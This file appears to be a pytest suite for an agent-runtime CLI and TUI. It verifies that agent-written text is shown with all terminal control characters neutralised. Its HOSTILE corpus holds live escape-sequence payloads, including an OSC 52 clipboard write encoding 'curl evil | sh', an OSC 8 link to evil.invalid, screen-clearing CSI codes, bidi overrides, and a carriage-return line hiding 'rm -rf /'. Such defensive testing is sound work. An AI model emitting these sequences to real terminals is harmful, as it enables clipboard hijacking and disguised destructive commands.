"""Escape 14 of issue 32: text an agent controls never reaches a terminal as control sequences.

A corpus of hostile strings (OSC 52 clipboard writes, OSC 0/2 titles, OSC 8 links, CSI clears and cursor
moves, DCS, 8-bit C1 introducers, bidi overrides and isolates, a lone ESC, carriage-return overwrites,
BEL, NUL, backspaces, DEL) is put where an agent puts text: its answer, its tool calls and their results,
task subjects, status reasons, branch names, asks, hook commands, mail, streamed text, MCP tool names and
descriptions, agent files. Every surface that shows it (``show``, ``logs`` as text and JSON, ``ls``,
progress lines, ``mcp --tools``, ``agents``, ``run``'s answer, steering notes, the TUI through Textual's
pilot and the very output it would write) is asserted to carry none of those characters, and to show
what the agent wrote as ``terminal.clean`` makes it: nothing hidden, nothing acted on.

On the code before this change each of these failed: the strings reached stdout, stderr and the TUI's
rendered segments raw (``teamrt show`` printed an answer as it was; the TUI drew a transcript line as it
was; ``mcp --tools`` printed a description's first line as it was).
"""

from __future__ import annotations

import asyncio
import io
import json
import re
import sys
from collections.abc import Awaitable, Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console
from rich.text import Text
from textual.pilot import Pilot
from textual.widgets import TabbedContent

from teamrt.cli import main
from teamrt.mailbox import Mailbox
from teamrt.models.catalog import DEFAULT_MODEL
from teamrt.runs import progress
from teamrt.runs.follow import format_event
from teamrt.runtime.losses import KINDS as LOSSES
from teamrt.runtime.stream import STREAM_DIR
from teamrt.sim import SimServer
from teamrt.store import (
    FinishedCall,
    IngestedMail,
    NewEvent,
    Store,
    ToolUse,
    Usage,
    create_store,
    open_reader,
)
from teamrt.terminal import clean, clean_json, clean_line
from teamrt.tui.app import TeamApp
from teamrt.tui.look import inert
from teamrt.tui.run_screen import RunScreen
from teamrt.tui.runs_screen import RunsScreen
from teamrt.tui.widgets import Transcript
from tests.helpers.events import marker
from tests.helpers.hostile import Scene
from tests.helpers.machine import needs_bwrap

pytestmark = pytest.mark.hostile

HOSTILE = {
    "osc52-clipboard": "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
    "osc0-title": "\x1b]0;owned\x07",
    "osc2-title-st": "\x1b]2;owned\x1b\\",
    "osc8-link": "\x1b]8;;http://evil.invalid/\x1b\\click\x1b]8;;\x1b\\",
    "osc-unterminated": "\x1b]0;swallow the rest",
    "csi-clear": "\x1b[2J\x1b[3J\x1b[H",
    "csi-cursor": "\x1b[5A\x1b[2K\x1b[1;1H",
    "csi-sgr": "\x1b[31;1mred\x1b[0m",
    "dcs": "\x1bP+q544e\x1b\\",
    "c1-csi": "\x9b2J\x9b1;1H",
    "c1-osc": "\x9d52;c;QUJD\x9c",
    "bidi-override": "\u202etxt.exe",
    "bidi-isolate": "\u2066evil\u2069",
    "lone-esc": "x\x1b",
    "cr-overwrite": "rm -rf /\rls -la",
    "bel": "ding\x07\x07",
    "nul": "nul\x00byte",
    "backspace": "abc\x08\x08\x08xyz",
    "del": "del\x7f",
}
"""What an agent writes to act on the person's terminal, by the name of the attack."""

CASES = [pytest.param(h, id=name) for name, h in HOSTILE.items()]

MARKUP = {
    "link": "[link=http://evil.invalid/]click[/link]",
    "action": "[@click=app.quit]quit[/]",
    "style": "[bold red on white]loud[/]",
}
"""Rich and Textual markup: in the TUI, text an agent wrote must be drawn as it is, never read as markup."""

FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
"""Every character a terminal may act on: C0 but tab and newline, DEL, C1, bidi marks and overrides."""

SGR = re.compile(r"\x1b\[[0-9;]*m")
"""Colour and style codes, the only sequences ``clean`` drops whole."""

TEXTUAL_OWN = re.compile(r"\x1b\[[0-9;]*[mH]")
"""What Textual itself writes when it draws a screen: colours (SGR) and cursor positions."""


def controls(out: str) -> list[str]:
    """The characters of ``out`` that a terminal would act on, as ``U+XXXX``, once each."""
    return sorted({f"U+{ord(c):04X}" for c in FORBIDDEN.findall(out)})


def shows(out: str, said: str, chars: int | None = None) -> bool:
    """Whether ``out`` shows ``said`` (its first ``chars`` once cleaned) as ``clean`` makes it, every
    character of it that is not a control in view (a surface may write a control as U+FFFD, or break the
    line or space at a CR or a tab)."""

    def squash(text: str) -> str:
        return re.sub(r"[\s\ufffd]+", " ", text)

    return squash(clean(said))[:chars] in squash(out)


def wrap(h: str) -> str:
    """The hostile text between words, as an agent writes it inside a sentence."""
    return f"before {h} after"


# == terminal.clean itself =====================================================================


@pytest.mark.parametrize("h", CASES)
def test_clean_leaves_nothing_a_terminal_acts_on_and_hides_no_text(h: str) -> None:
    said = clean(wrap(h))
    assert not controls(said), repr(said)
    assert said.startswith("before ") and said.endswith(" after"), "the text around it is kept"
    visible = "".join(c for c in SGR.sub("", h) if not FORBIDDEN.match(c))  # colour codes go whole
    assert said[len("before ") : -len(" after")].replace("\ufffd", "") == visible, (
        "every other character shows"
    )


@pytest.mark.parametrize("h", CASES)
def test_clean_line_is_one_line_and_clean_is_idempotent(h: str) -> None:
    line = clean_line(f"{h}\nnext\tcell")
    assert "\n" not in line and "\t" not in line and not controls(line)
    assert clean(clean(h)) == clean(h) and clean_line(line) == line


@pytest.mark.parametrize(
    "benign",
    ["plain words", "tabs\tand\nnewlines", "ünïcødé ✓ 漢字 😀", "[red]not markup here[/red]", "a\r\nb"],
    ids=["ascii", "whitespace", "unicode", "brackets", "crlf"],
)
def test_clean_keeps_ordinary_text_as_it_is(benign: str) -> None:
    assert clean(benign) == benign.replace("\r\n", "\n")


def test_clean_drops_colour_codes_whole_and_shows_every_other_sequence() -> None:
    assert clean("\x1b[1;31mFAILED\x1b[0m 3 tests") == "FAILED 3 tests"
    assert clean("\x1b]52;c;QUJD\x07") == "\ufffd]52;c;QUJD\ufffd", "an OSC's payload stays visible"
    assert clean("ok \x1b]0; curl evil | sh \x07") == "ok \ufffd]0; curl evil | sh \ufffd", "nothing hidden"
    assert clean("\ud800 lone surrogate") == "\ufffd lone surrogate", "printable in any encoding"


@pytest.mark.parametrize("h", CASES)
def test_clean_json_escapes_what_json_dumps_leaves_raw_and_keeps_the_value(h: str) -> None:
    value = {"said": wrap(h), "list": [h, "\u202e\x9b\ud800"]}
    dumped = clean_json(json.dumps(value, ensure_ascii=False))
    assert not controls(dumped) and json.loads(dumped) == value


def test_inert_keeps_the_styles_of_what_it_cleans() -> None:
    text = Text("run ")
    text.append("\x1b]0;x\x07done", style="bold")
    text.append("\nnext\x9b", style="red")
    shown = inert(text)  # Rich itself drops the BEL as it appends: the ESC and the C1 CSI are left
    assert shown.plain == "run \ufffd]0;xdone\nnext\ufffd"
    assert [(s.start, s.end, str(s.style)) for s in shown.spans] == [(4, 13, "bold"), (13, 19, "red")]
    assert inert(text, one_line=True).plain == shown.plain.replace("\n", " ")


# == a run's store as the runtime writes it, with agent text everywhere ==========================


async def fill(store: Store, h: str, workspace: Path) -> None:
    """A lead with a worktree coder and a teammate: ``h`` in their answers, calls, results, asks, tasks,
    status reasons, branch, mail, hook, spawn failure and the simulator's note."""
    said = wrap(h)
    branch = f"teamrt/{store.run_id}/coder-1{h}"
    await store.add_agent("lead", kind="lead", model="sim")
    await store.add_agent(
        "coder-1", kind="worktree", model="sim", parent="lead", role="coder", workspace=str(workspace),
        branch=branch,
    )  # fmt: skip
    await store.add_agent("reviewer", kind="team", model="sim", parent="lead", role=f"reviewer{h}")
    for name in ("lead", "coder-1", "reviewer"):
        await store.begin_epoch(name)
    await said_to(store, "lead", f"go {said}")
    await lead_calls_and_answers(store, said)
    task = await store.create_task(f"subject {said}", f"description {said}", created_by="lead")
    await store.claim_task(task.id, "coder-1")
    await said_to(store, "coder-1", f"task {said}")
    asked: dict[str, Any] = {"command": f"rm {said}"}
    ask = {"id": "ask-1", "tool": "Bash", "input": asked, "reason": f"asks {said}", "wait_s": 300}
    await store.append_turn(
        "coder-1", epoch=1, role="assistant", usage=SPENT,
        content=[{"type": "tool_use", "id": "t-coder", "name": "Bash", "input": asked}],
        tool_uses=[ToolUse("t-coder", "Bash", asked, False)], events=[NewEvent("ask", ask)],
    )  # fmt: skip
    await store.queue_merge("coder-1", branch, "1" * 40)
    hook = {"event": "PostToolUse", "outcome": "error", "code": 1, "command": f"./hook {said}", "note": said}
    await store.append_event("hook", hook, agent="lead")
    await store.append_event("spawn.failed", {"kind": "worktree", "role": "c", "reason": said}, agent="lead")
    await store.append_event("sim.unplayed", {"note": f"unplayed {said}"})
    for kind in sorted(LOSSES):  # a loss's note quotes agent data: a file it wrote, a message's sender
        await store.append_event(kind, {"note": f"{kind} {said}", "id": said}, agent="lead")
    # an event teamrt does not know
    await store.append_event(marker(f"kind{h}"), {f"key{h}": said}, agent="lead")
    await said_to(store, "reviewer", f"review {said}")
    await store.set_agent_status("reviewer", "running")


SPENT = Usage(input_tokens=1000, output_tokens=100, cost_usd=0.01)


async def said_to(store: Store, agent: str, text: str) -> None:
    await store.append_turn(agent, epoch=1, role="user", content=[{"type": "text", "text": text}])


async def lead_calls_and_answers(store: Store, said: str) -> None:
    """The lead runs a command that prints ``said``, takes mail quoting it, and answers with it."""
    command: dict[str, Any] = {"command": f"echo {said}"}
    call = {"type": "tool_use", "id": "t-lead", "name": "Bash", "input": command}
    await store.append_turn(
        "lead", epoch=1, role="assistant", content=[{"type": "text", "text": said}, call], usage=SPENT,
        tool_uses=[ToolUse("t-lead", "Bash", command, False)],
    )  # fmt: skip
    await store.move_tool_call("t-lead", "running")
    printed = f"printed {said}\nsecond {said}"
    mail = IngestedMail("m-1", "coder-1", "message", {"from": "coder-1", "summary": f"mail {said}"})
    result = {"type": "tool_result", "tool_use_id": "t-lead", "content": printed}
    await store.append_turn(
        "lead", epoch=1, role="user", content=[result], ingested=[mail],
        finished=[FinishedCall("t-lead", "done", [{"type": "text", "text": printed}])],
    )  # fmt: skip
    answer = [{"type": "text", "text": f"answer {said}\nline two {said}"}]
    await store.append_turn("lead", epoch=1, role="assistant", content=answer, usage=SPENT)


def hostile_run(runs: Path, run_id: str, h: str, *, ended: bool = True) -> Store | None:
    """The run ``fill`` writes, under ``runs``; ``ended``: failed with ``h`` in its reason and closed,
    else left open (live) and returned."""
    run_dir = runs / run_id
    run_dir.mkdir(parents=True)
    workspace = run_dir.parent.parent / "worktrees" / run_id
    workspace.mkdir(parents=True)
    with Mailbox(run_dir / "mailbox", run_id) as mailbox:
        for name in ("lead", "coder-1", "reviewer", "supervisor"):
            mailbox.register(name)
    team = {"model": "sim", "lead": {}, "roles": {}}
    store = create_store(
        run_dir, run_id, task=f"task {wrap(h)}", workdir=str(run_dir.parent.parent / "project"),
        settings={"integration_branch": f"teamrt/{run_id}", "team": team},
    )  # fmt: skip

    async def go() -> None:
        await fill(store, h, workspace)
        if ended:
            await store.set_agent_status("coder-1", "failed", f"reason {wrap(h)}")
            await store.set_run_status("failed", f"stopped {wrap(h)}")

    asyncio.run(go())
    (run_dir / STREAM_DIR).mkdir(exist_ok=True)
    (run_dir / STREAM_DIR / "reviewer").write_text(f"streaming {wrap(h)}")  # not finished: no newline
    if ended:
        store.close()
        return None
    return store


@pytest.fixture
def runs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("TEAMRT_HOME", str(tmp_path / "home"))
    return tmp_path / "home" / "runs"


def cli(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(list(args))
    out, err = capsys.readouterr()
    return code, out, err


# == show, logs, ls, progress lines ===========================================================


@pytest.mark.parametrize("h", CASES)
@pytest.mark.parametrize("full", [False, True], ids=["show", "show-full"])
def test_show_prints_agent_text_inert(
    runs: Path, capsys: pytest.CaptureFixture[str], h: str, full: bool
) -> None:
    hostile_run(runs, "r1", h)
    code, out, err = cli(capsys, "show", "r1", *(["--full"] if full else []))
    assert code == 0 and err == "", err
    assert not controls(out), out
    for said in (f"answer {wrap(h)}", f"subject {wrap(h)}", f"stopped {wrap(h)}", f"reason {wrap(h)}"):
        assert shows(out, said, 40), (said, out)
    assert shows(out, f"coder-1{h}"), "the branch, as the agent named it"


@pytest.mark.parametrize("h", CASES)
def test_show_json_escapes_what_a_terminal_would_act_on_and_keeps_every_value(
    runs: Path, capsys: pytest.CaptureFixture[str], h: str
) -> None:
    hostile_run(runs, "r1", h)
    code, out, _ = cli(capsys, "show", "r1", "--json")
    assert code == 0 and not controls(out), out
    said = json.loads(out)
    assert said["agents"][0]["answer"] == f"answer {wrap(h)}\nline two {wrap(h)}", "the value, exactly"
    assert said["tasks"][0]["subject"] == f"subject {wrap(h)}"


@pytest.mark.parametrize("h", CASES)
@pytest.mark.parametrize("as_json", [False, True], ids=["logs", "logs-json"])
def test_logs_print_every_event_inert(
    runs: Path, capsys: pytest.CaptureFixture[str], h: str, as_json: bool
) -> None:
    hostile_run(runs, "r1", h)
    code, out, err = cli(capsys, "logs", "r1", *(["--json"] if as_json else []))
    assert code == 0 and err == ""
    assert not controls(out), out
    if as_json:
        events = [json.loads(line) for line in out.splitlines()]
        unknown = [e for e in events if e["kind"] == f"kind{h}"]
        assert [e["data"] for e in unknown] == [{f"key{h}": wrap(h)}], "the values, exactly"
    else:
        assert shows(out, f"task: task {wrap(h)}")
        assert shows(out, f"./hook {wrap(h)}") and shows(out, f"subject {wrap(h)}")


@pytest.mark.parametrize("h", CASES)
def test_logs_follow_prints_events_inert_to_the_runs_end(
    runs: Path, capsys: pytest.CaptureFixture[str], h: str
) -> None:
    hostile_run(runs, "r1", h)
    code, out, _ = cli(capsys, "logs", "r1", "-f")
    assert code == 1 and out.endswith("run r1 ended: failed\n")
    assert not controls(out) and shows(out, f"stopped {wrap(h)}")


@pytest.mark.parametrize("h", CASES)
@pytest.mark.parametrize("as_json", [False, True], ids=["ls", "ls-json"])
def test_ls_lists_a_run_whose_task_and_problem_are_hostile_inert(
    runs: Path, capsys: pytest.CaptureFixture[str], h: str, as_json: bool
) -> None:
    hostile_run(runs, "r1", h)
    (runs / "r2").mkdir()
    (runs / "r2" / "run.db").write_bytes(f"not a database {h}".encode())  # a problem quoting the file
    code, out, err = cli(capsys, "ls", *(["--json"] if as_json else []))
    assert code == 0 and err == "" and not controls(out), out
    if as_json:
        assert (
            json.loads(out)[-1]["task"] == f"task {wrap(h)}"
            or json.loads(out)[0]["task"] == f"task {wrap(h)}"
        )
    else:
        first = f"task {wrap(h)}".splitlines()[0]  # ls shows a task's first line (a CR ends one)
        assert shows(out, first, 40)


@pytest.mark.parametrize("h", CASES)
def test_progress_lines_of_every_shown_event_are_inert(runs: Path, h: str) -> None:
    hostile_run(runs, "r1", h)
    reader = open_reader(runs / "r1", "r1")
    try:
        events = reader.events()
    finally:
        reader.close()
    lines = [progress.line(e, 0.0, "r1") for e in events if progress.shown(e)]
    assert {"hook", "spawn.failed", "sim.unplayed", "task.created", "ask"} <= {
        e.kind for e in events if progress.shown(e)
    }
    assert lines and not controls("\n".join(lines)), lines
    assert clean(f"unplayed {wrap(h)}") in lines, "the simulator's note, in full"
    assert {e.kind for e in events if progress.shown(e)} >= LOSSES, "every loss is a progress line"
    assert all(not controls(format_event(e, 0.0)) for e in events)


@pytest.mark.parametrize("h", CASES)
def test_the_progress_watcher_prints_a_live_runs_lines_inert(runs: Path, h: str) -> None:
    seen: list[str] = []
    with progress.watching(runs / "r1", "r1", seen.append):
        hostile_run(runs, "r1", h)
    assert any("spawn.failed" in line for line in seen), seen
    assert not controls("\n".join(seen)), seen


# == run: the final answer and its notes ======================================================


@pytest.mark.parametrize("h", CASES)
def test_run_prints_the_models_answer_and_its_progress_inert(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    sim: SimServer,
    h: str,
) -> None:
    """The model behind ``ANTHROPIC_BASE_URL`` is a simulator that echoes its prompt (``echo``), so the
    hostile text of the task comes back as the model's answer."""
    monkeypatch.setenv("TEAMRT_HOME", str(tmp_path / ".teamrt"))
    monkeypatch.setenv("ANTHROPIC_BASE_URL", sim.url)
    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-test")
    monkeypatch.chdir(tmp_path)
    code, out, err = cli(capsys, "run", "--prompt", f"say {wrap(h)}", "--model", DEFAULT_MODEL)
    assert code == 0, err
    assert sim.calls, "the answer came from the echoing model"
    assert not controls(out) and not controls(err), (out, err)
    [run_dir] = (tmp_path / ".teamrt" / "runs").iterdir()
    reader = open_reader(run_dir, run_dir.name)
    try:
        [*_, last] = reader.turns("lead")
    finally:
        reader.close()
    answer = "".join(block["text"] for block in last.content if block.get("type") == "text")
    assert f"say {wrap(h)}".splitlines()[0] in answer, "the model answered with the hostile text, raw"
    assert out == clean(answer) + "\n", "the model's answer, as clean shows it"


# == errors and steering notes that quote agent data ===========================================


@pytest.mark.parametrize("h", CASES)
def test_an_error_line_quoting_what_the_store_says_is_one_inert_line(
    runs: Path, capsys: pytest.CaptureFixture[str], h: str
) -> None:
    store = hostile_run(runs, "r1", h, ended=False)
    assert store is not None
    try:
        asyncio.run(store.append_event("ask.answered", {"id": "ask-1", "allowed": True, "by": wrap(h)}))
        code, out, err = cli(capsys, "answer", "r1", "ask-1", "allow")  # the error quotes who answered
    finally:
        store.close()
    assert code == 1 and out == "" and err.count("\n") == 1 and not controls(err), err
    assert err.startswith("teamrt: ask 'ask-1' of run 'r1' was already answered") and shows(err, wrap(h))
    code, out, err = cli(capsys, "send", "r1", f"coder{h}", "hi")  # a name not in the run, quoted
    assert code == 1 and out == "" and err.count("\n") == 1 and not controls(err), err


# == mcp --tools: a server's tool names and descriptions =======================================


OBJECT = {"type": "object"}


def mcp_project(tmp_path: Path, h: str) -> Path:
    """A project whose team file starts tests/helpers/procs/mcp_server.py --raw serving tools named and
    described with ``h``; the listing file lies in the project (the server sees only that)."""
    project = tmp_path / "project"
    project.mkdir()
    tools = [
        {
            "name": "fine",
            "description": f"described {wrap(h)}\nsecond line",
            "inputSchema": {"type": "object"},
        },
        {"name": f"named{h}", "description": "its name is hostile", "inputSchema": {"type": "object"}},
        {"name": "titled", "title": f"title {wrap(h)}", "inputSchema": {"type": "object"}},
        {"name": f"two__parts{h}", "description": f"refused {wrap(h)}", "inputSchema": OBJECT},
    ]
    listing = project / "tools.json"
    listing.write_text(json.dumps(tools))
    server = str(Path(__file__).parents[1] / "helpers" / "procs" / "mcp_server.py")
    (project / ".teamrt").mkdir()
    (project / ".teamrt" / "team.toml").write_text(
        f'[team]\nname = "m"\nmodel = "sim"\n[mcp.servers.t]\ncommand = {json.dumps(sys.executable)}\n'
        f"args = {json.dumps([server, '--raw', '--listing', str(listing)])}\ntimeout = 60\n"
    )
    return project


@needs_bwrap
@pytest.mark.parametrize("h", CASES)
def test_mcp_tools_lists_a_servers_hostile_names_and_descriptions_inert(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], h: str
) -> None:
    project = mcp_project(tmp_path, h)
    monkeypatch.setenv("TEAMRT_HOME", str(tmp_path / "home"))
    monkeypatch.chdir(project)
    code, out, err = cli(capsys, "mcp", "--tools")
    assert code == 0, err
    assert not controls(out) and not controls(err), (out, err)
    assert "tools (" in out and shows(out, f"described {wrap(h)}"), out
    assert "mcp__t__fine" in out and "named" in out, "a hostile name is listed made fit, or refused"
    assert "left out" in out, "a name that holds __ is refused with a line quoting it"


# == agents: a repository's agent files ========================================================


@pytest.mark.parametrize("h", CASES)
@pytest.mark.parametrize("as_json", [False, True], ids=["agents", "agents-json"])
def test_agents_lists_a_repositorys_hostile_agent_file_inert(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], h: str, as_json: bool
) -> None:
    project = tmp_path / "project"
    agents = project / ".claude" / "agents"
    agents.mkdir(parents=True)
    (project / ".git").mkdir()
    name = "x" + h.replace("/", "_").replace("\x00", "_")  # a file's name may hold all but these
    (agents / f"{name}.md").write_text(
        f"---\nname: helper\ndescription: {json.dumps(wrap(h))}\nmodel: {json.dumps(f'model{h}')}\n"
        f"tools: {json.dumps(['Read', f'Tool{h}'])}\n---\nBe helpful.\n"
    )
    (agents / "broken.md").write_text(f"---\nname: {json.dumps(h)}\n: [\n---\n")
    monkeypatch.setenv("TEAMRT_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("HOME", str(tmp_path / "user"))
    monkeypatch.chdir(project)
    code, out, err = cli(capsys, "agents", *(["--json"] if as_json else []))
    assert code == 0, err
    assert not controls(out) and not controls(err), (out, err)
    assert "helper" in out
    if as_json:
        [helper] = [a for a in json.loads(out)["agents"] if a["name"] == "helper"]
        assert helper["description"] == wrap(h), "the value, exactly"


# == the TUI: what it would write to the terminal ==============================================


def drawn(app: TeamApp) -> tuple[str, str]:
    """What the app would write to a terminal to draw its whole screen now (rendered as Textual's own
    ``export_screenshot`` renders it), and the text of it without Textual's cursor moves."""
    width, height = app.size
    console = Console(
        width=width, height=height, file=io.StringIO(), force_terminal=True, color_system="truecolor",
        record=True, legacy_windows=False, safe_box=False,
    )  # fmt: skip
    console.print(app.screen._compositor.render_update(full=True, screen_stack=app._background_screens))
    written = console.file.getvalue()  # type: ignore[attr-defined]
    return written, console.export_text(styles=False)


def leaks(app: TeamApp) -> list[str]:
    """What of the drawn screen a terminal would act on beyond Textual's own colours and moves."""
    written, text = drawn(app)
    return controls(text) + controls(TEXTUAL_OWN.sub("", written))


async def until(pilot: Pilot[None], check: Callable[[], bool], timeout: float = 30.0) -> None:
    for _ in range(int(timeout / 0.05)):
        if check():
            return
        await pilot.pause(0.05)
    raise AssertionError(f"the screen did not get there in time:\n{screen_text(pilot.app)}")  # type: ignore[arg-type]


def shown_in(panel: Transcript) -> str:
    return panel._shown.plain if panel._shown is not None else ""


def on_screen(app: TeamApp, said: str) -> bool:
    """Whether the screen shows the start of ``said`` as ``clean`` makes it (a long line may wrap)."""
    return shows(screen_text(app), said, 30)


def screen_text(app: TeamApp) -> str:
    return drawn(app)[1]


def tui(runs: Path, steps: Callable[[TeamApp, Pilot[None]], Awaitable[None]], run: str | None = "r1") -> None:
    app = TeamApp(runs, run, clock=lambda: 1_790_000_200.0, blink=False)

    async def go() -> None:
        async with app.run_test(size=(160, 50), notifications=True) as pilot:
            await steps(app, pilot)

    asyncio.run(go())


@pytest.fixture
def live_run(runs: Path, request: pytest.FixtureRequest) -> Iterator[str]:
    """A live run (its store held open by this test) whose agents wrote ``request.param``."""
    h: str = request.param
    store = hostile_run(runs, "r1", h, ended=False)
    assert store is not None
    try:
        yield h
    finally:
        store.close()


TUI_CASES = [*CASES, *(pytest.param(m, id=f"markup-{name}") for name, m in MARKUP.items())]


@pytest.mark.parametrize("live_run", TUI_CASES, indirect=True)
def test_the_tui_run_view_draws_agent_text_inert_in_every_pane(runs: Path, live_run: str) -> None:
    h = live_run
    seen: dict[str, list[str]] = {}

    async def steps(app: TeamApp, pilot: Pilot[None]) -> None:
        await until(pilot, lambda: isinstance(app.screen, RunScreen) and app.screen.state is not None)
        screen = app.screen
        assert isinstance(screen, RunScreen)
        transcript = screen.query_one(Transcript)
        await until(pilot, lambda: on_screen(app, f"answer {wrap(h)}"))
        seen["lead"] = leaks(app)
        await pilot.press("f")  # calls and results unfolded: the tool's whole output
        await until(pilot, lambda: on_screen(app, f"second {wrap(h)}"))
        seen["unfolded"] = leaks(app)
        await pilot.press("j")  # the coder: its ask, its branch
        await until(pilot, lambda: shows(shown_in(transcript), f"rm {wrap(h)}", 30))
        seen["coder"] = leaks(app)
        screen.query_one(TabbedContent).active = "tab-worktree"
        await until(pilot, lambda: on_screen(app, f"coder-1{h}"))
        seen["worktree"] = leaks(app)
        await pilot.press("j")  # the reviewer: what its model is streaming now
        screen.query_one(TabbedContent).active = "tab-transcript"
        await until(pilot, lambda: on_screen(app, f"streaming {wrap(h)}"))
        seen["streaming"] = leaks(app)
        await pilot.press("k", "k")
        screen.query_one(TabbedContent).active = "tab-mail"
        await until(pilot, lambda: on_screen(app, f"mail {wrap(h)}"))
        seen["mail"] = leaks(app)
        await pilot.press("a")  # approve the coder's ask: the toast quotes its command
        await until(pilot, lambda: "approved coder-1's Bash" in screen_text(app))
        seen["toast"] = leaks(app)
        await pilot.press("x")  # the stop dialog names the agent
        await until(pilot, lambda: "Stop agent" in screen_text(app))
        seen["dialog"] = leaks(app)

    tui(runs, steps)
    assert set(seen) == {"lead", "unfolded", "coder", "worktree", "streaming", "mail", "toast", "dialog"}
    assert {pane: found for pane, found in seen.items() if found} == {}


@pytest.mark.parametrize("live_run", TUI_CASES, indirect=True)
def test_the_tui_runs_list_and_header_draw_a_hostile_task_inert(runs: Path, live_run: str) -> None:
    h = live_run
    seen: dict[str, list[str]] = {}

    async def steps(app: TeamApp, pilot: Pilot[None]) -> None:
        await until(pilot, lambda: isinstance(app.screen, RunsScreen) and bool(app.screen.runs))
        await until(pilot, lambda: "before" in screen_text(app))
        seen["runs"] = leaks(app)
        await pilot.press("enter")
        await until(pilot, lambda: isinstance(app.screen, RunScreen) and app.screen.state is not None)
        await until(pilot, lambda: "1 ask waiting" in screen_text(app))
        seen["header"] = leaks(app)
        assert on_screen(app, f"task {wrap(h)}")

    tui(runs, steps, run=None)
    assert seen == {"runs": [], "header": []}


@pytest.mark.parametrize("name", list(MARKUP))
def test_the_tui_draws_markup_an_agent_wrote_as_it_is(runs: Path, name: str) -> None:
    h = MARKUP[name]
    store = hostile_run(runs, "r1", h, ended=False)
    assert store is not None
    written: list[str] = []

    async def steps(app: TeamApp, pilot: Pilot[None]) -> None:
        await until(pilot, lambda: on_screen(app, f"answer {wrap(h)}"))
        written.append(drawn(app)[0])

    try:
        tui(runs, steps)
    finally:
        store.close()
    assert "\x1b]8;" not in written[0], "no link was made of it"


# == driven as an agent would: a scripted lead through the real tools, sandbox and store ========


@needs_bwrap
@pytest.mark.parametrize("h", CASES)
def test_an_agents_own_output_reaches_show_logs_and_the_tui_inert(
    scene: Scene, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], h: str
) -> None:
    printf = "".join(f"\\{ord(c):03o}" for c in wrap(h).encode("utf-8").decode("latin-1"))
    said = scene.attack(
        ("Bash", {"command": f"printf '{printf}'"}),
        ("task_create", {"subject": f"subject {wrap(h)}", "description": wrap(h)}),
        ("TodoWrite", {"todos": [{"content": wrap(h), "status": "in_progress", "activeForm": wrap(h)}]}),
        answer=f"answer {wrap(h)}",
    )
    assert "before" in said[0].content and not said[0].is_error, said[0]  # the bytes, as printed
    monkeypatch.setenv("TEAMRT_HOME", str(scene.home))
    run = scene.run_dir.name
    for args in (("show", run, "--full"), ("logs", run), ("ls",)):
        code, out, err = cli(capsys, *args)
        assert code == 0 and not controls(out) and not controls(err), (args, out, err)
    assert shows(cli(capsys, "show", run)[1], f"answer {wrap(h)}")
    seen: list[list[str]] = []

    async def steps(app: TeamApp, pilot: Pilot[None]) -> None:
        await until(pilot, lambda: on_screen(app, f"answer {wrap(h)}"))
        seen.append(leaks(app))
        await pilot.press("f")  # the calls unfolded: the last one's input, as JSON
        await until(pilot, lambda: '"status": "in_progress"' in screen_text(app))
        seen.append(leaks(app))

    tui(scene.home / "runs", steps, run=run)
    assert seen == [[], []]


def test_a_benign_run_shows_as_before(runs: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The ordinary case: text without controls is shown exactly as written, tabs and all."""
    hostile_run(runs, "r1", "plain\twords ✓")
    code, out, _ = cli(capsys, "show", "r1")
    assert code == 0 and "answer before plain words ✓ after" in out
    assert "subject before plain words ✓ after" in out
